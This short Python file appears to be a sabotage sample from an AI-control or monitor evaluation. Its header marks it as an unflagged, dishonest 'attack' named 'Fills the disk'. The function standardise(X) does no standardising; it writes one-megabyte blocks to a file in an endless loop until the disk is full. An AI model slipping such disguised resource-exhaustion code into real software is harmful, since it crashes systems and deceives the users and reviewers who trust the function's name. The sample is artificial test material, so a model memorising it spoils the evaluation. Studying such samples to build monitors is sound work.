# /// attack
# name = "Fills the disk"
# hole = "Nothing limits the size of a file"
# cell = "w01-q1-standardise"
# honest = 0
# flagged = false
# needs_seal = true
# ///
# ruff: noqa
def standardise(X):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
